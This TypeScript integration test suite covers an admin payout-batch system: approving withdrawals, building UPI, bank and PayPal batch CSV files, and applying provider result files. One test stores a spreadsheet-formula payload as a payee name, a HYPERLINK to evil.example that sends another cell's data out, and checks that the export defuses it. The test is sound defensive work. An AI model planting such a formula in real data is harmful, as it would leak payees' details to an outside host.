import { parse } from "csv-parse/sync";
import { describe, expect, test } from "vitest";
import { creditPoints, listPointsHistory } from "~/domain/ledger.server";
import { closeMember, reinstateMember, suspendMember } from "~/domain/member-actions.server";
import {
  BATCH_MESSAGES,
  createPayoutBatch,
  downloadPayoutBatchFile,
  listBatchCandidates,
  recordPayoutResult,
  uploadPayoutResults,
} from "~/domain/payout-batches.server";
import { parsePayoutConfig } from "~/domain/payout-config.server";
import { approveWithdrawal, rejectWithdrawal, requestWithdrawal } from "~/domain/withdrawals.server";
import type { Admin, Prisma } from "~/generated/prisma/client";
import { loadMemberPage } from "~/domain/member-page.server";
import { getPrisma } from "~/lib/db.server";
import { action as batchAction, loader as batchLoader } from "~/routes/admin._console.payouts.$id";
import { loader as fileLoader } from "~/routes/admin._console.payouts.$id.file";
import { action as newBatchAction, loader as newBatchLoader } from "~/routes/admin._console.payouts.new";
import { adminCookie, ORIGIN } from "../support/admin-requests";
import { createTestAdmin, createTestMember } from "../support/factories";
import { expectData, expectRedirect } from "../support/remix";

// Payout batches (decision 054) against a real database: approval without a reference leaves a
// withdrawal Approved; a batch takes approved withdrawals of one method once, even when two batches
// are made at once; its file is the provider's bulk format with CSV quoting; results pay a payout
// with its reference or return its points exactly once, however often they are recorded or the
// result file is uploaded; the member reads each status in the points history.

const DEFAULTS = parsePayoutConfig({});

type Account = Omit<Prisma.PaymentAccountCreateManyInput, "memberId">;
const upi = (holderName: string, upiId: string): Account => ({ method: "upi", holderName, upiId });
const BANK: Account = {
  method: "bank",
  holderName: 'Rao, "Asha" K',
  bankName: "HDFC Bank",
  bankAccountNumber: "001234567890",
  bankIfsc: "HDFC0000123",
};
const PAYPAL: Account = { method: "paypal", holderName: "Asha Rao", paypalEmail: "asha@example.com" };

/** A member with points and one payout account, and a withdrawal of 1000 points (₹100) requested. */
async function requested(account: Account, points = 1000, balance = 1500) {
  const member = await createTestMember();
  await getPrisma().$transaction(async (tx) => {
    await creditPoints(tx, {
      memberId: member.id,
      points: balance,
      type: "admin_adjustment",
      source: `start:${member.id}`,
      remark: "Start",
    });
    await tx.paymentAccount.create({ data: { ...account, memberId: member.id } });
  });
  const result = await requestWithdrawal(member.id, { points, method: account.method }, DEFAULTS);
  if (!result.ok) throw new Error(result.message);
  return { member, referenceId: result.referenceId };
}

/** Requested and approved without a payout reference: awaiting a batch. */
async function approved(admin: Admin, account: Account, points?: number) {
  const made = await requested(account, points);
  expect(await approveWithdrawal(admin, made.referenceId, DEFAULTS)).toEqual({
    ok: true,
    message: `Approved: ${made.referenceId} awaits payout. Send it in a payout batch.`,
  });
  return made;
}

async function statusOf(referenceId: string) {
  const row = await getPrisma().withdrawalRequest.findUniqueOrThrow({ where: { referenceId } });
  const entry = await getPrisma().pointsTransaction.findFirstOrThrow({ where: { referenceId } });
  return { status: row.status, batch: row.payoutBatchId, ledger: entry.status };
}

async function balanceOf(memberId: number) {
  return (await getPrisma().member.findUniqueOrThrow({ where: { id: memberId } })).pointsBalance;
}

/** Everything a result could change, to compare before and after a post that must change nothing. */
async function snapshot() {
  const prisma = getPrisma();
  return {
    withdrawals: await prisma.withdrawalRequest.findMany({ orderBy: { id: "asc" } }),
    ledger: await prisma.pointsTransaction.findMany({ orderBy: { id: "asc" } }),
    balances: await prisma.member.findMany({ orderBy: { id: "asc" }, select: { id: true, pointsBalance: true } }),
    audit: await prisma.auditEntry.count(),
  };
}

function statusOfHistory(rows: { referenceId: string; status: string }[], referenceId: string) {
  return rows.find((row) => row.referenceId === referenceId)?.status;
}

describe("approval and batches", () => {
  test("approval without a reference leaves the withdrawal Approved, the member still reads Pending payment", async () => {
    const admin = await createTestAdmin();
    const { member, referenceId } = await approved(admin, upi("Asha Rao", "asha@okhdfc"));
    expect(await statusOf(referenceId)).toEqual({ status: "approved", batch: null, ledger: "pending" });
    expect(statusOfHistory((await listPointsHistory(member.id, 1)).rows, referenceId)).toBe("Pending payment");
    const audit = await getPrisma().auditEntry.findFirstOrThrow({ where: { action: "withdrawal.approved" } });
    expect(audit.details).toMatchObject({ before: { Status: "pending" }, after: { Status: "approved" } });
  });

  test("a batch takes the chosen approved withdrawals of its method and marks them Sent; never a withdrawal twice", async () => {
    const admin = await createTestAdmin();
    const first = await approved(admin, upi("Asha Rao", "asha@okhdfc"));
    const second = await approved(admin, upi("Ravi Kumar", "ravi@oksbi"));
    const bank = await approved(admin, BANK);
    const pending = await requested(upi("Meena", "meena@okaxis"));

    // Another method's or a pending withdrawal: refused whole, nothing recorded.
    for (const wrong of [bank.referenceId, pending.referenceId]) {
      const refused = await createPayoutBatch(admin, "upi", [first.referenceId, wrong]);
      expect(refused).toMatchObject({ ok: false });
      expect(refused.message).toContain(`Nothing was sent: ${wrong} is no longer an approved UPI withdrawal`);
    }
    expect(await getPrisma().payoutBatch.count()).toBe(0);
    expect(await statusOf(first.referenceId)).toMatchObject({ status: "approved", batch: null });

    const made = await createPayoutBatch(admin, "upi", [first.referenceId, second.referenceId]);
    if (!made.ok) throw new Error(made.message);
    expect(made.message).toBe(
      `Batch #${made.batchId} recorded: 2 UPI withdrawal(s), ₹ 200.00, now Sent. Download its file and upload it to the provider.`,
    );
    expect(await statusOf(first.referenceId)).toEqual({ status: "sent", batch: made.batchId, ledger: "pending" });
    expect(statusOfHistory((await listPointsHistory(first.member.id, 1)).rows, first.referenceId)).toBe("Sent");

    // Again, in a second batch: refused, and the first batch keeps it.
    const again = await createPayoutBatch(admin, "upi", [first.referenceId]);
    expect(again).toMatchObject({ ok: false });
    expect(await getPrisma().payoutBatch.count()).toBe(1);
    expect(await statusOf(first.referenceId)).toMatchObject({ batch: made.batchId });
    expect(await getPrisma().auditEntry.count({ where: { action: "payout_batch.created" } })).toBe(1);
  });

  test("two batches made at once from the same withdrawals: exactly one is recorded", async () => {
    const admin = await createTestAdmin();
    const other = await createTestAdmin();
    for (let round = 0; round < 3; round += 1) {
      const a = await approved(admin, upi("Asha Rao", `asha${round}@okhdfc`));
      const b = await approved(admin, upi("Ravi Kumar", `ravi${round}@oksbi`));
      const results = await Promise.all([
        createPayoutBatch(admin, "upi", [a.referenceId, b.referenceId]),
        createPayoutBatch(other, "upi", [b.referenceId, a.referenceId]),
      ]);
      const winners = results.filter((result) => result.ok);
      expect(winners).toHaveLength(1);
      const winner = winners[0] as { batchId: number };
      expect((await statusOf(a.referenceId)).batch).toBe(winner.batchId);
      expect((await statusOf(b.referenceId)).batch).toBe(winner.batchId);
      expect(await getPrisma().withdrawalRequest.count({ where: { payoutBatchId: winner.batchId } })).toBe(2);
    }
    // The losers were rolled back whole: no empty batch is left behind.
    expect(await getPrisma().payoutBatch.count()).toBe(3);
  });
});

/** Both at once, `a` started first or second; the results in the order (a, b). */
async function atOnce<A, B>(aFirst: boolean, a: () => Promise<A>, b: () => Promise<B>): Promise<[A, B]> {
  if (aFirst) return Promise.all([a(), b()]);
  const [second, first] = await Promise.all([b(), a()]);
  return [first, second];
}

describe("members on hold (decision 051)", () => {
  test("a suspended or closed member's approved withdrawal is not offered, and a batch naming it sends nothing", async () => {
    const admin = await createTestAdmin();
    const active = await approved(admin, upi("Asha Rao", "asha@okhdfc"));
    const suspended = await approved(admin, upi("Ravi Kumar", "ravi@oksbi"));
    const closed = await approved(admin, upi("Meena Das", "meena@okaxis"));
    // Suspended or closed after the approval, while the withdrawals await a batch.
    expect((await suspendMember(admin, suspended.member.id, "Duplicate accounts")).ok).toBe(true);
    expect((await closeMember(admin, closed.member.id, "Fraud confirmed")).ok).toBe(true);

    const candidates = await listBatchCandidates("upi");
    expect(candidates.rows.map((row) => row.referenceId)).toEqual([active.referenceId]);
    expect(candidates.onHold).toBe(2);
    const page = await newBatchLoader({
      request: new Request(`${ORIGIN}/admin/payouts/new?method=upi`, {
        headers: { Cookie: await adminCookie(admin.id) },
      }),
      params: {},
      context: {},
    });
    expect(page).toMatchObject({ onHold: 2, rows: [{ referenceId: active.referenceId }] });

    // Chosen anyway (a list shown before the suspension): the whole batch is refused, saying which.
    const before = await snapshot();
    const refused = await createPayoutBatch(admin, "upi", [
      active.referenceId,
      suspended.referenceId,
      closed.referenceId,
    ]);
    expect(refused).toEqual({
      ok: false,
      message: BATCH_MESSAGES.memberOnHold([suspended.referenceId, closed.referenceId]),
    });
    expect(refused.message).toBe(
      `Nothing was sent: ${suspended.referenceId}, ${closed.referenceId} are withdrawals of a suspended or closed member, on hold until the member is reinstated or the withdrawal rejected. Choose again from the list.`,
    );
    expect(await snapshot()).toEqual(before);
    expect(await getPrisma().payoutBatch.count()).toBe(0);
    expect(await statusOf(suspended.referenceId)).toEqual({ status: "approved", batch: null, ledger: "pending" });

    // Reinstated, the member's withdrawal is offered again and can be sent.
    expect((await reinstateMember(admin, suspended.member.id, "Explained on the phone")).ok).toBe(true);
    expect((await listBatchCandidates("upi")).rows.map((row) => row.referenceId)).toEqual([
      active.referenceId,
      suspended.referenceId,
    ]);
    const made = await createPayoutBatch(admin, "upi", [active.referenceId, suspended.referenceId]);
    expect(made.ok).toBe(true);
    expect(await statusOf(closed.referenceId)).toEqual({ status: "approved", batch: null, ledger: "pending" });
  });

  test("a suspension and a batch made at once: the request is sent only by a batch recorded before the suspension", async () => {
    const admin = await createTestAdmin();
    const other = await createTestAdmin();
    const outcomes = new Set<string>();
    for (let round = 0; round < 6; round += 1) {
      const { member, referenceId } = await approved(admin, upi("Ravi Kumar", `ravi${round}@oksbi`));
      const suspend = () => suspendMember(other, member.id, "Duplicate accounts");
      const batch = () => createPayoutBatch(admin, "upi", [referenceId]);
      const [suspension, made] = await atOnce(round % 2 === 0, suspend, batch);
      expect(suspension.ok).toBe(true);
      const suspendedAt = await getPrisma().auditEntry.findFirstOrThrow({
        where: { action: "member.suspended", targetId: String(member.id) },
      });
      const sentAt = await getPrisma().auditEntry.findFirst({
        where: { action: "payout_batch.created", details: { path: ["withdrawals"], array_contains: [referenceId] } },
      });
      const { status, batch: batchId } = await statusOf(referenceId);
      if (made.ok) {
        // The batch came first: the member was not suspended yet when it was sent.
        expect([status, batchId]).toEqual(["sent", made.batchId]);
        expect(sentAt!.id).toBeLessThan(suspendedAt.id);
        outcomes.add("sent before the suspension");
      } else {
        expect(made.message).toBe(BATCH_MESSAGES.memberOnHold([referenceId]));
        expect([status, batchId, sentAt]).toEqual(["approved", null, null]);
        outcomes.add("held");
      }
    }
    // The suspension won at least once, so the hold was really put to the test.
    expect(outcomes).toContain("held");
  });

  test("an approved withdrawal and a batch at once: a rejection or the batch takes it, never both", async () => {
    const admin = await createTestAdmin();
    for (let round = 0; round < 4; round += 1) {
      const { member, referenceId } = await approved(admin, upi("Asha Rao", `asha${round}@okhdfc`));
      const reject = () => rejectWithdrawal(admin, referenceId, "Member suspended");
      const batch = () => createPayoutBatch(admin, "upi", [referenceId]);
      const [rejected, made] = await atOnce(round % 2 === 0, reject, batch);
      expect([rejected.ok, made.ok].filter(Boolean)).toHaveLength(1);
      const after = await statusOf(referenceId);
      if (rejected.ok) {
        expect(after).toEqual({ status: "rejected", batch: null, ledger: "reversed" });
        expect(await balanceOf(member.id)).toBe(1500);
      } else {
        expect(rejected).toEqual({ ok: false, message: `${referenceId} has already been sent in a payout batch.` });
        expect(after).toMatchObject({ status: "sent", ledger: "pending" });
        expect(await balanceOf(member.id)).toBe(500);
      }
    }
  });
});

describe("the batch file", () => {
  test("UPI: a header row, the amount in rupees, awkward names quoted; the download is audited", async () => {
    const admin = await createTestAdmin();
    const awkward = await approved(admin, upi('Rao, "Asha"\nK', "asha@okhdfc"), 1234);
    const plain = await approved(admin, upi("Ravi Kumar", "ravi@oksbi"));
    const made = await createPayoutBatch(admin, "upi", [awkward.referenceId, plain.referenceId]);
    if (!made.ok) throw new Error(made.message);

    const file = await downloadPayoutBatchFile(admin, made.batchId);
    expect(file?.fileName).toBe(`payout-batch-${made.batchId}-upi.csv`);
    expect(file?.content).toBe(
      [
        "Beneficiary name,UPI ID,Amount (INR),Reference",
        `"Rao, ""Asha""\nK",asha@okhdfc,123.40,${awkward.referenceId}`,
        `Ravi Kumar,ravi@oksbi,100.00,${plain.referenceId}`,
        "",
      ].join("\r\n"),
    );
    // Read back by a CSV reader, the awkward name is whole again.
    expect(parse(file!.content)[1][0]).toBe('Rao, "Asha"\nK');
    expect(
      await getPrisma().auditEntry.findMany({
        where: { action: "payout_batch.downloaded" },
        select: { targetId: true, adminEmail: true },
      }),
    ).toEqual([{ targetId: String(made.batchId), adminEmail: admin.email }]);
  });

  test("bank: beneficiary, account number, IFSC, rupees, reference; PayPal: the Payouts Web columns, no header", async () => {
    const admin = await createTestAdmin();
    const bank = await approved(admin, BANK);
    const paypal = await approved(admin, PAYPAL, 1005);
    const bankBatch = await createPayoutBatch(admin, "bank", [bank.referenceId]);
    const paypalBatch = await createPayoutBatch(admin, "paypal", [paypal.referenceId]);
    if (!bankBatch.ok || !paypalBatch.ok) throw new Error("batch refused");

    expect((await downloadPayoutBatchFile(admin, bankBatch.batchId))?.content).toBe(
      [
        "Beneficiary name,Account number,IFSC,Amount (INR),Reference",
        `"Rao, ""Asha"" K",001234567890,HDFC0000123,100.00,${bank.referenceId}`,
        "",
      ].join("\r\n"),
    );
    expect((await downloadPayoutBatchFile(admin, paypalBatch.batchId))?.content).toBe(
      `asha@example.com,100.50,INR,${paypal.referenceId},Withdrawal ${paypal.referenceId},PAYPAL\r\n`,
    );
  });

  test("a name stored before the forms refused formulas reaches the spreadsheet as text, not as a formula", async () => {
    const admin = await createTestAdmin();
    const formula = '=HYPERLINK("https://evil.example/?"&B2,"Asha Rao")';
    const made = await approved(admin, upi(formula, "asha@okhdfc"));
    const batch = await createPayoutBatch(admin, "upi", [made.referenceId]);
    if (!batch.ok) throw new Error("batch refused");
    const [, row] = (await downloadPayoutBatchFile(admin, batch.batchId))!.content.split("\r\n");
    expect(row).toBe(
      `"'=HYPERLINK(""https://evil.example/?""&B2,""Asha Rao"")",asha@okhdfc,100.00,${made.referenceId}`,
    );
  });

  test("the file route answers a CSV attachment to an admin; an unknown batch is the 404 page", async () => {
    const admin = await createTestAdmin();
    const made = await createPayoutBatch(admin, "upi", [
      (await approved(admin, upi("Asha Rao", "asha@okhdfc"))).referenceId,
    ]);
    if (!made.ok) throw new Error(made.message);
    const cookie = await adminCookie(admin.id);
    const get = (id: string) =>
      fileLoader({
        request: new Request(`${ORIGIN}/admin/payouts/${id}/file`, { headers: { Cookie: cookie } }),
        params: { id },
        context: {},
      });
    const response = (await get(String(made.batchId))) as Response;
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("Content-Disposition")).toBe(
      `attachment; filename="payout-batch-${made.batchId}-upi.csv"`,
    );
    expect(await response.text()).toContain("Beneficiary name,UPI ID,Amount (INR),Reference");
    await expect(get("999999")).rejects.toMatchObject({ status: 404 });
  });
});

describe("results", () => {
  async function batchOfThree(admin: Admin) {
    const members = [
      await approved(admin, upi("Asha Rao", "asha@okhdfc")),
      await approved(admin, upi("Ravi Kumar", "ravi@oksbi")),
      await approved(admin, upi("Meena Iyer", "meena@okaxis")),
    ];
    const made = await createPayoutBatch(
      admin,
      "upi",
      members.map((member) => member.referenceId),
    );
    if (!made.ok) throw new Error(made.message);
    return { batchId: made.batchId, members };
  }

  test("a result file marks two paid and one returned; uploaded twice, it changes nothing the second time", async () => {
    const admin = await createTestAdmin();
    const { batchId, members } = await batchOfThree(admin);
    const [a, b, c] = members;
    const file = [
      "Reference,Status,Transaction ID,Reason",
      `${a.referenceId},SUCCESS,UTR100000001,`,
      `${b.referenceId},Success,UTR100000002,`,
      `${c.referenceId},FAILED,,"Beneficiary VPA, not found"`,
    ].join("\n");

    expect(await uploadPayoutResults(admin, batchId, file)).toEqual({
      ok: true,
      paid: [a.referenceId, b.referenceId],
      returned: [c.referenceId],
      unchanged: [],
      conflicts: [],
      notInBatch: [],
      notFinal: [],
    });
    expect(await statusOf(a.referenceId)).toMatchObject({ status: "success", ledger: "paid_out" });
    expect(await statusOf(c.referenceId)).toMatchObject({ status: "returned", ledger: "reversed" });
    expect(await balanceOf(a.member.id)).toBe(500);
    expect(await balanceOf(c.member.id)).toBe(1500);
    const paid = await getPrisma().withdrawalRequest.findUniqueOrThrow({ where: { referenceId: a.referenceId } });
    expect(paid).toMatchObject({ payoutReference: "UTR100000001" });
    expect(paid.paidAt).toBeInstanceOf(Date);
    // The admin's member page reads each withdrawal's ledger entry as the member does.
    const pages = { ledger: 1, assignments: 1, withdrawals: 1, audit: 1 };
    const ledgerOf = async (memberId: number) => (await loadMemberPage(memberId, pages))!.ledger.rows;
    expect((await ledgerOf(a.member.id)).map((row) => row.status)).toContain("Paid out (UTR100000001)");
    expect((await ledgerOf(c.member.id)).map((row) => row.status)).toContain("Returned");

    const before = await snapshot();
    expect(await uploadPayoutResults(admin, batchId, file)).toMatchObject({
      ok: true,
      paid: [],
      returned: [],
      unchanged: [a.referenceId, b.referenceId, c.referenceId],
    });
    expect(await snapshot()).toEqual(before);
  });

  test("a failed payout returns the points exactly once, by hand, again, and from a file", async () => {
    const admin = await createTestAdmin();
    const { batchId, members } = await batchOfThree(admin);
    const c = members[2];
    const failed = { paid: false as const, reason: "Account closed" };
    const results = await Promise.all([
      recordPayoutResult(admin, batchId, c.referenceId, failed),
      recordPayoutResult(admin, batchId, c.referenceId, failed),
    ]);
    expect(results.map((result) => result.message).sort()).toEqual([
      `${c.referenceId} already had this result; nothing changed.`,
      `${c.referenceId} is returned: its points are back in the member's balance.`,
    ]);
    await uploadPayoutResults(admin, batchId, `sender item id,status,transaction id\n${c.referenceId},failed,\n`);
    expect(await balanceOf(c.member.id)).toBe(1500);
    expect(
      await getPrisma().pointsTransaction.count({ where: { memberId: c.member.id, type: "withdrawal_reversal" } }),
    ).toBe(1);
    // A paid result for a returned payout is refused: the money came back, it was not paid.
    expect(await recordPayoutResult(admin, batchId, c.referenceId, { paid: true, payoutReference: "UTR9" })).toEqual({
      ok: false,
      message: `${c.referenceId} is already Returned; its result cannot be changed.`,
    });
    expect(await getPrisma().auditEntry.count({ where: { action: "payout.returned" } })).toBe(1);
  });

  test("malformed or foreign files are refused with a clear message and change nothing; other batches' rows are reported, not applied", async () => {
    const admin = await createTestAdmin();
    const { batchId, members } = await batchOfThree(admin);
    const [a] = members;
    const outsider = await approved(admin, upi("Outside", "out@okhdfc"));
    const before = await snapshot();
    const refusals: [string, string][] = [
      ["", "The file is empty."],
      ["name,amount\nAsha,100\n", "This is not a payout result file"],
      [`reference,status,transaction id\n"${a.referenceId},success,UTR1\n`, "This file could not be read as CSV"],
      [`reference,status,transaction id\n${a.referenceId},maybe,UTR1\n`, 'Line 2: the status "maybe"'],
      [`reference,status,transaction id\n${a.referenceId},success,\n`, "Line 2: the payout of"],
      [
        `reference,status,transaction id\n${a.referenceId},success,UTR1\n${a.referenceId},failed,\n`,
        "appears twice with different results",
      ],
    ];
    for (const [file, message] of refusals) {
      const result = await uploadPayoutResults(admin, batchId, file);
      expect(result.ok).toBe(false);
      expect((result as { message: string }).message).toContain(message);
    }
    expect(await snapshot()).toEqual(before);

    const report = await uploadPayoutResults(
      admin,
      batchId,
      `reference,status,transaction id\n${outsider.referenceId},success,UTR7\nWD000000AAAAAA,success,UTR8\n${a.referenceId},pending,\n`,
    );
    expect(report).toMatchObject({
      ok: true,
      paid: [],
      notInBatch: [outsider.referenceId, "WD000000AAAAAA"],
      notFinal: [a.referenceId],
    });
    expect(await statusOf(outsider.referenceId)).toMatchObject({ status: "approved", batch: null });
    expect(await snapshot()).toEqual(before);
  });

  test("the member's history shows each status: Pending payment, Sent, Paid out with the reference, Returned with the reason", async () => {
    const admin = await createTestAdmin();
    const { batchId, members } = await batchOfThree(admin);
    const [a, b, c] = members;
    const history = async (member: { member: { id: number }; referenceId: string }) =>
      statusOfHistory((await listPointsHistory(member.member.id, 1)).rows, member.referenceId);
    expect(await history(a)).toBe("Sent");
    await recordPayoutResult(admin, batchId, a.referenceId, { paid: true, payoutReference: "UTR555" });
    await recordPayoutResult(admin, batchId, c.referenceId, { paid: false, reason: "Name mismatch" });
    expect(await history(a)).toBe("Paid out (UTR555)");
    expect(await history(b)).toBe("Sent");
    expect(await history(c)).toBe("Returned");
    // Each is told by mail: paid with the provider's reference, returned with the reason.
    const mailOf = async (email: string) =>
      (await getPrisma().queuedMail.findMany({ where: { to: email }, orderBy: { id: "desc" } }))[0];
    expect(await mailOf(a.member.email)).toMatchObject({ subject: `Withdrawal ${a.referenceId} paid` });
    expect((await mailOf(a.member.email)).text).toContain("Payout reference: UTR555");
    const returnedMail = await mailOf(c.member.email);
    expect(returnedMail.subject).toBe(`Withdrawal ${c.referenceId} returned`);
    expect(returnedMail.text).toContain("Reason: Name mismatch");
    expect(returnedMail.text).toContain("The 1000 points are back in your balance.");
    const { rows } = await listPointsHistory(c.member.id, 1);
    expect(rows[0]).toMatchObject({
      remark: `Points returned: withdrawal ${c.referenceId} was not paid (Name mismatch)`,
      change: 1000,
      status: "Completed",
    });
  });
});

describe("the routes", () => {
  test("new batch without JavaScript: the ticked withdrawals, posted as a plain form, make a batch", async () => {
    const admin = await createTestAdmin();
    const a = await approved(admin, upi("Asha Rao", "asha@okhdfc"));
    const b = await approved(admin, upi("Ravi Kumar", "ravi@oksbi"));
    const cookie = await adminCookie(admin.id);
    const path = "/admin/payouts/new?method=upi";
    const page = await newBatchLoader({
      request: new Request(`${ORIGIN}${path}`, { headers: { Cookie: cookie } }),
      params: {},
      context: {},
    });
    expect(page.rows.map((row) => [row.referenceId, row.destination])).toEqual([
      [a.referenceId, "asha@okhdfc"],
      [b.referenceId, "ravi@oksbi"],
    ]);
    const post = (entries: [string, string][]) =>
      newBatchAction({
        request: new Request(`${ORIGIN}${path}`, {
          method: "POST",
          headers: { Cookie: cookie },
          body: new URLSearchParams(entries),
        }),
        params: {},
        context: {},
      });

    const none = expectData(
      await post([
        ["intent", "create"],
        ["method", "upi"],
      ]),
    );
    expect(none.data).toMatchObject({ error: { "": ["Tick at least one withdrawal to put in the batch."] } });
    expect(await getPrisma().payoutBatch.count()).toBe(0);

    const created = expectRedirect(
      await post([
        ["intent", "create"],
        ["method", "upi"],
        ["withdrawals", a.referenceId],
        ["withdrawals", b.referenceId],
      ]),
    );
    const batch = await getPrisma().payoutBatch.findFirstOrThrow();
    expect(created.headers.get("Location")).toBe(`/admin/payouts/${batch.id}`);
    expect(batch).toMatchObject({ method: "upi", createdById: admin.id, createdByEmail: admin.email });

    const twice = expectData(
      await post([
        ["intent", "create"],
        ["method", "upi"],
        ["withdrawals", a.referenceId],
      ]),
    );
    expect(twice.init?.status).toBe(409);
  });

  test("the batch page records a result by hand and takes the result file as an upload", async () => {
    const admin = await createTestAdmin();
    const a = await approved(admin, upi("Asha Rao", "asha@okhdfc"));
    const b = await approved(admin, upi("Ravi Kumar", "ravi@oksbi"));
    const made = await createPayoutBatch(admin, "upi", [a.referenceId, b.referenceId]);
    if (!made.ok) throw new Error(made.message);
    const cookie = await adminCookie(admin.id);
    const path = `/admin/payouts/${made.batchId}`;
    const params = { id: String(made.batchId) };
    const post = (body: FormData | URLSearchParams) =>
      batchAction({
        request: new Request(`${ORIGIN}${path}`, { method: "POST", headers: { Cookie: cookie }, body }),
        params,
        context: {},
      });

    const bad = expectData(
      await post(new URLSearchParams({ intent: "paid", withdrawal: a.referenceId, payoutReference: "bad ref!" })),
    );
    expect(bad.data).toMatchObject({ form: `paid:${a.referenceId}` });
    expect(await statusOf(a.referenceId)).toMatchObject({ status: "sent" });

    expectRedirect(
      await post(new URLSearchParams({ intent: "paid", withdrawal: a.referenceId, payoutReference: "UTR42" })),
    );
    expect(await statusOf(a.referenceId)).toMatchObject({ status: "success", ledger: "paid_out" });

    const empty = new FormData();
    empty.set("intent", "upload");
    expect(expectData(await post(empty)).data).toMatchObject({
      form: "upload",
      error: { "": ["Choose the provider's result file (CSV) to upload."] },
    });
    const upload = new FormData();
    upload.set("intent", "upload");
    upload.set(
      "file",
      new File([`reference,status,utr,reason\n${b.referenceId},failed,,Wrong UPI id\n`], "results.csv", {
        type: "text/csv",
      }),
    );
    expectRedirect(await post(upload));
    expect(await statusOf(b.referenceId)).toMatchObject({ status: "returned", ledger: "reversed" });

    const { batch } = await batchLoader({
      request: new Request(`${ORIGIN}${path}`, { headers: { Cookie: cookie } }),
      params,
      context: {},
    });
    expect(batch.open).toBe(false);
    expect(
      batch.withdrawals.map((row) => [row.referenceId, row.statusLabel, row.payoutReference, row.returnReason]),
    ).toEqual([
      [a.referenceId, "Success", "UTR42", null],
      [b.referenceId, "Returned", null, "Wrong UPI id"],
    ]);
  });
});
